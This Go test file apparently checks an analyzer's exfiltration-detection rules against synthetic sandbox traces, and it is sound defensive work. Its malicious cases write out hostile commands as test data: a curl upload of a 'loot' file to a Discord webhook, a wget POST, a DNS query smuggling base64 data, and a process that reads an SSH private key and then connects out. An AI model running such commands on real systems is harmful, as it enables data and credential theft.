package analyzer

import (
	"testing"

	"github.com/sandscan/sandscan/trace"
)

func TestExfiltrationRules(t *testing.T) {
	runRuleCases(t, []ruleCase{
		{name: "dig of a base64 label", rule: "exfiltration.dns", want: true, tech: "T1048",
			run: sh("x").spawn(1, 10, "/usr/bin/dig", "dig", "@8.8.8.8", "-p", "53", "dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com").done()},
		{name: "sinkhole sees hex labels", rule: "exfiltration.dns", want: true,
			run: sh("x").dns("6a6f686e3a7365637265743a3132333435.x.example", "NXDOMAIN").done()},
		{name: "benign: ordinary names", rule: "exfiltration.dns", want: false,
			run: sh("x").dns("deb.debian.org", "NOERROR").dns("pool.ntp.org", "NOERROR").dns("s3.eu-west-1.amazonaws.com", "NOERROR").spawn(1, 10, "/usr/bin/dig", "dig", "example.com").done()},

		{name: "wget --post-data over https", rule: "exfiltration.upload", want: true, tech: "T1048.002",
			run: sh("x").spawn(1, 10, "/usr/bin/wget", "wget", "--post-data=msg=x", "https://example.com/").done()},
		{name: "discord webhook", rule: "exfiltration.upload", want: true, tech: "T1567.004",
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-F", "file=@/tmp/loot.txt", "https://discord.com/api/webhooks/0/x").done()},
		{name: "sinkhole saw a POST body", rule: "exfiltration.upload", want: true, tech: "T1048.003",
			run: sh("x").conn(trace.Conn{Proto: "tcp", DstIP: "203.0.113.7", DstPort: 80, App: "http", HTTP: &trace.HTTPInfo{Method: "POST", Host: "exfil.example", Path: "/upload", BodySize: 4096}}).done()},
		{name: "benign: POST to a loopback API", rule: "exfiltration.upload", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-X", "POST", "-d", "{}", "http://127.0.0.1:8080/init").done()},

		{name: "stealer reads keys then connects", rule: "exfiltration.credentials-sent", want: true,
			run: newRun("/credtheft").open(1, "/root/.ssh/id_rsa", rdonly).connect(1, "203.0.113.9", 80, 101).done()},
		{name: "benign: sshd reads host keys and serves", rule: "exfiltration.credentials-sent", want: false,
			run: sh("x").spawn(1, 10, "/usr/sbin/sshd", "sshd").open(10, "/etc/ssh/ssh_host_rsa_key", rdonly).connect(10, "10.0.0.1", 53, 0).done()},

		{name: "split -b", rule: "exfiltration.size-limits", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/split", "split", "-b", "5000000", "data").done()},
		{name: "benign: split by lines", rule: "exfiltration.size-limits", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/split", "split", "-l", "1000", "data.csv").done()},
	})
}
